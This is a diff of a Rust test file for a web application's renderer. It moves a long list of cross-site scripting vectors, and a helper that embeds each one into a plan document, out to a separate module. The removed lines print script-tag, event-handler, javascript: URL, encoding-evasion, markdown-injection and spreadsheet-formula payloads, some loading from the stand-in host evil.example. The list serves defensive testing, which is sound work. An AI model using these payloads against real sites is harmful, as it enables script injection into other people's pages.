@@ -2,6 +2,7 @@
 #![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic, reason = "a test may stop")]
 
 mod running;
+mod vectors;
 
 use std::time::{Duration, Instant};
 
@@ -317,243 +318,6 @@ fn a_question_too_many_is_turned_away_and_not_kept_waiting() {
 
 // ------------------------------------------------------------------------------------------------- hostile texts
 
-/// Elements that run, load, lead away or take over a page. Sources for the classes of attack below: WHATWG HTML (elements
-/// and attributes that run scripts), OWASP Cross Site Scripting Prevention Cheat Sheet (contexts; from memory). The
-/// vectors themselves are our own.
-fn vectors() -> Vec<String> {
-    let mut all: Vec<String> = Vec::new();
-    let mut add = |text: &str| all.push(text.to_owned());
-    for script in [
-        "<script>alert(1)</script>",
-        "<SCRIPT>alert(1)</SCRIPT>",
-        "<script\n>alert(1)</script\n>",
-        "<script/x>alert(1)</script>",
-        "<scr<script>ipt>alert(1)</scr</script>ipt>",
-        "<script src=//evil.example/x.js></script>",
-        "<script type=module>import '//evil.example/x.js'</script>",
-        "</script><script>alert(1)</script>",
-        "<script>alert(1)",
-        "<<script>alert(1)//<</script>",
-        "\u{0}<script>alert(1)</script>",
-        "<scr\u{0}ipt>alert(1)</script>",
-        "<!--><script>alert(1)</script>-->",
-        "<!--\n\n<script>alert(1)</script>",
-        "<![CDATA[<script>alert(1)</script>]]>",
-        "<?x <script>alert(1)</script> ?>",
-        "<!DOCTYPE x [<!ENTITY y '<script>'>]>",
-        "<template><script>alert(1)</script></template>",
-        "<noscript><p title=\"</noscript><script>alert(1)</script>\">",
-        "<xmp><script>alert(1)</script></xmp>",
-        "<plaintext><script>alert(1)</script>",
-        "<title></title><script>alert(1)</script>",
-        "</title><script>alert(1)</script>",
-        "</textarea><script>alert(1)</script>",
-        "</style><script>alert(1)</script>",
-        "</article></main><script>alert(1)</script>",
-        "</svg><script>alert(1)</script>",
-        "<svg><script>alert(1)</script></svg>",
-        "<svg><script href=\"data:text/javascript,alert(1)\"/></svg>",
-        "<math><mtext><script>alert(1)</script></mtext></math>",
-        "&lt;script&gt;alert(1)&lt;/script&gt;",
-        "&#60;script&#62;alert(1)&#60;/script&#62;",
-        "&#x3c;script&#x3e;alert(1)",
-        "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
-        "%3Cscript%3Ealert(1)%3C/script%3E",
-        "\\u003cscript\\u003ealert(1)",
-        "+ADw-script+AD4-alert(1)",
-    ] {
-        add(script);
-    }
-    for (element, handler) in [
-        ("img src=x", "onerror"),
-        ("img src=x", "ONERROR"),
-        ("svg", "onload"),
-        ("body", "onload"),
-        ("iframe", "onload"),
-        ("video src=x", "onerror"),
-        ("audio src=x", "onerror"),
-        ("input autofocus", "onfocus"),
-        ("select autofocus", "onfocus"),
-        ("textarea autofocus", "onfocus"),
-        ("details open", "ontoggle"),
-        ("marquee", "onstart"),
-        ("a href=#", "onclick"),
-        ("p", "onmouseover"),
-        ("div", "onpointerenter"),
-        ("form", "onsubmit"),
-        ("button", "onclick"),
-        ("object data=x", "onerror"),
-        ("video", "oncanplay"),
-        ("body", "onpageshow"),
-        ("body", "onhashchange"),
-        ("style", "onload"),
-        ("link rel=stylesheet href=x", "onerror"),
-        ("x", "onanimationstart"),
-        ("x", "ontransitionend"),
-        ("div contenteditable", "onblur"),
-        ("img src=x", "onbeforecopy"),
-        ("dialog open", "onclose"),
-        ("svg><animate", "onbegin"),
-        ("svg><set", "onend"),
-        ("input type=search", "onsearch"),
-        ("x tabindex=1", "onkeydown"),
-        ("video", "onwebkitplaybacktargetavailabilitychanged"),
-        ("track", "onload"),
-        ("input", "oninput"),
-        ("div popover id=p", "onbeforetoggle"),
-    ] {
-        add(&format!("<{element} {handler}=alert(1)>"));
-        add(&format!("<{element}/{handler}=\"alert(1)\">"));
-    }
-    for url in [
-        "javascript:alert(1)",
-        "JaVaScRiPt:alert(1)",
-        " javascript:alert(1)",
-        "java\tscript:alert(1)",
-        "java\nscript:alert(1)",
-        "\u{1}javascript:alert(1)",
-        "javascript&#58;alert(1)",
-        "javascript&colon;alert(1)",
-        "&#106;avascript:alert(1)",
-        "&#x6A&#x61vascript:alert(1)",
-        "java&#9;script:alert(1)",
-        "java&Tab;script:alert(1)",
-        "java&NewLine;script:alert(1)",
-        "vbscript:msgbox(1)",
-        "data:text/html,<script>alert(1)</script>",
-        "data:text/html;base64,PHNjcmlwdD4=",
-        "data:image/svg+xml,<svg onload=alert(1)>",
-        "blob:https://evil.example/x",
-        "file:///etc/passwd",
-        "feed:javascript:alert(1)",
-        "view-source:javascript:alert(1)",
-        "jar:javascript:alert(1)",
-        "javascript://evil.example/%0aalert(1)",
-        "javascript:/*--></title></style></textarea></script><svg onload=alert(1)>*/",
-        "filesystem:http://x/y",
-        "ms-its:x",
-        "intent://x#Intent;end",
-        "about:blank",
-        "ws://evil.example",
-        "//evil.example/x",
-        "\\\\evil.example\\x",
-        "/\\evil.example",
-        "https:evil.example",
-    ] {
-        add(&format!("[a]({url})"));
-        add(&format!("[a](<{url}>)"));
-        add(&format!("![a]({url})"));
-        add(&format!("<{url}>"));
-        add(&format!("[a]\n\n[a]: {url}\n"));
-        add(&format!("<a href=\"{url}\">a</a>"));
-    }
-    for text in [
-        "[a](x \"t\\\" onmouseover=alert(1) x=\\\"\")",
-        "[a](x 't' onmouseover=alert(1))",
-        "![\" onerror=alert(1) x=\"](x)",
-        "![a](x\" onerror=\"alert(1))",
-        "[a](x\"onclick=\"alert(1))",
-        "<https://x/\"onclick=\"alert(1)>",
-        "<a@b\"onclick=\"alert(1)>",
-        "[<img src=x onerror=alert(1)>](x)",
-        "[a](x){onclick=alert(1)}",
-        "# Head {#id onclick=alert(1)}",
-        "# Head {#\"><script>alert(1)</script>}",
-        "# Head {.x onclick=alert(1)}",
-        "# Head {for=\"><script>alert(1)</script>}",
-        "## Head {for=lab onclick=alert(1)}",
-        "```\"><script>alert(1)</script>\nx\n```",
-        "```workings\"><script>alert(1)</script>\n1\n```",
-        "``` onclick=alert(1)\nx\n```",
-        "`<script>alert(1)</script>`",
-        "`? \"<script>alert(1)</script>\"`",
-        "`? <img src=x onerror=alert(1)>`",
-        "~~<script>alert(1)</script>~~",
-        "[^1]\n\n[^1]: <script>alert(1)</script>",
-        "[^\"><script>]\n\n[^\"><script>]: x",
-        "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
-        "- [ ] <script>alert(1)</script>",
-        "- [x] <img src=x onerror=alert(1)>",
-        "1. <svg onload=alert(1)>",
-        "> <script>alert(1)</script>",
-        "    <script>alert(1)</script>",
-        "<p\nonclick=alert(1)\n>x",
-        "<a\u{c}href=javascript:alert(1)>x",
-        "<img/src=`x`onerror=alert(1)>",
-        "<img src=x onerror\u{b}=alert(1)>",
-        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
-        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
-        "<iframe src=javascript:alert(1)>",
-        "<object data=javascript:alert(1)>",
-        "<embed src=javascript:alert(1)>",
-        "<base href=//evil.example/>",
-        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
-        "<meta http-equiv=Content-Security-Policy content=\"\">",
-        "<link rel=import href=//evil.example>",
-        "<link rel=stylesheet href=//evil.example/x.css>",
-        "<style>@import '//evil.example/x.css';</style>",
-        "<style>body{background:url(//evil.example)}</style>",
-        "<p style=\"background:url(//evil.example)\">",
-        "<div style=\"width:expression(alert(1))\">",
-        "<form action=//evil.example><input name=x>",
-        "<form id=plan><input name=childNodes>",
-        "<input form=record formaction=javascript:alert(1)>",
-        "<button formaction=javascript:alert(1)>x",
-        "<isindex action=javascript:alert(1)>",
-        "<a id=main name=dataset>",
-        "<img name=getElementById>",
-        "<form name=body>",
-        "<a ping=//evil.example href=x>",
-        "<a target=_blank href=https://evil.example>x",
-        "<area href=javascript:alert(1)>",
-        "<svg><a xlink:href=javascript:alert(1)><text>x",
-        "<svg><use href=data:image/svg+xml,x>",
-        "<svg><foreignObject><iframe src=javascript:alert(1)>",
-        "<svg><animate attributeName=href values=javascript:alert(1)>",
-        "<svg><set attributeName=onmouseover to=alert(1)>",
-        "<svg><image href=//evil.example/x.png>",
-        "<math href=javascript:alert(1)>x",
-        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
-        "<math><annotation-xml encoding=text/html><script>alert(1)</script>",
-        "<table background=javascript:alert(1)>",
-        "<img srcset=\"//evil.example/x 1x\">",
-        "<picture><source srcset=//evil.example>",
-        "<video poster=//evil.example>",
-        "<audio src=//evil.example>",
-        "<portal src=//evil.example>",
-        "<frameset onload=alert(1)>",
-        "<bgsound src=//evil.example>",
-        "<layer src=//evil.example>",
-        "<keygen autofocus onfocus=alert(1)>",
-        "<dialog id=clash open>",
-        "<slot onslotchange=alert(1)>",
-        "<custom-x onclick=alert(1)>",
-        "{{ 7*7 }}<script>alert(1)</script>",
-        "{% raw %}<script>alert(1)</script>",
-        "${alert(1)}",
-        "#{alert(1)}",
-        "<%= alert(1) %>",
-        "{{constructor.constructor('alert(1)')()}}",
-        "\u{202e}<script>alert(1)</script>",
-        "\u{2028}<script>alert(1)</script>",
-        "a\u{feff}<script>alert(1)</script>",
-        "' onmouseover='alert(1)",
-        "\" onmouseover=\"alert(1)",
-        "` onmouseover=`alert(1)",
-        "\"><img src=x onerror=alert(1)>",
-        "'><img src=x onerror=alert(1)>",
-        "--><img src=x onerror=alert(1)>",
-        "]]><img src=x onerror=alert(1)>",
-        "*/alert(1)/*",
-        "\\\"><script>alert(1)</script>",
-        "=cmd|'/c calc'!A1",
-        "@import url(//evil.example)",
-    ] {
-        add(text);
-    }
-    all
-}
-
 /// Every element our own pages are made of; none of them runs, loads from elsewhere or takes a page over.
 const MADE: &str = "html head meta title link script body a abbr article aside b blockquote br button caption code col colgroup dd del details dfn dialog div dl dt em fieldset figcaption figure footer form h1 h2 h3 h4 h5 h6 header hr i img input ins kbd label legend li main mark nav ol optgroup option output p pre q s samp section select small span strong sub summary sup table tbody td textarea tfoot th thead time tr u ul var wbr svg g path rect line polyline polygon circle ellipse text tspan defs title desc marker clipPath pattern";
 
@@ -640,19 +404,6 @@ fn active(html: &str, is_page: bool) -> Vec<String> {
     found
 }
 
-/// A plan with the same text in every place a person can write.
-fn plan_with(vector: &str) -> String {
-    let toml = |text: &str| {
-        let plain: String = text.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
-        plain.replace('\\', "\\\\").replace('"', "\\\"")
-    };
-    let script = |text: &str| text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', " ").replace('\u{0}', "");
-    let (t, s, line) = (toml(vector), script(vector), vector.replace('\n', " "));
-    format!(
-        "+++\ntitle = \"{t}\"\nabout = \"{t}\"\nfrom = \"{t}\"\nedition = 5\n[shops]\nlab = \"shops/lab\"\n\"{t}\" = \"shops/lab\"\n+++\n\n# {line}\n\n## {line} {{for=lab}}\n\n{vector}\n\n- {line}\n\n| {line} |\n|---|\n| {line} |\n\n```workings\nlet words = \"{s}\";\nlet chosen = given(\"{s}\", \"{s}\", [\"{s}\", \"other\"]);\nlet long = given(\"{s}\", 12.inch);\nmust(false, \"{s}\");\nshould(1 > 2, \"{s}\");\ncost(\"{s}\", 3.usd, \"lab\");\nstep(\"{s}\", 3.days, \"lab\");\n```\n\nSays `? words` and `? chosen` and `? nothing_{s}`.\n\n{vector}\n"
-    )
-}
-
 #[test]
 fn no_text_becomes_a_script_a_handler_or_a_way_out() {
     let sheet = |vector: &str| {
@@ -666,7 +417,7 @@ fn no_text_becomes_a_script_a_handler_or_a_way_out() {
     let program = Program::start(folder.path(), &[]);
     let mut line = Line::to(program.address).unwrap();
     let own = ("Sec-Fetch-Site", "same-origin");
-    let vectors = vectors();
+    let vectors = vectors::all();
     let (mut wrong, mut looked) = (Vec::new(), 0);
     let mut look = |vector: &str, place: &str, html: &str, is_page: bool| {
         looked += 1;
@@ -675,7 +426,7 @@ fn no_text_becomes_a_script_a_handler_or_a_way_out() {
         }
     };
     for (number, vector) in vectors.iter().enumerate() {
-        let text = plan_with(vector);
+        let text = vectors::plan_with(vector);
         let draft = line.ask("POST", "/plan/one/draft", &[own], text.as_bytes()).unwrap();
         assert_eq!(draft.status, 200, "{vector:?}: {}", draft.text());
         let draft = draft.json();
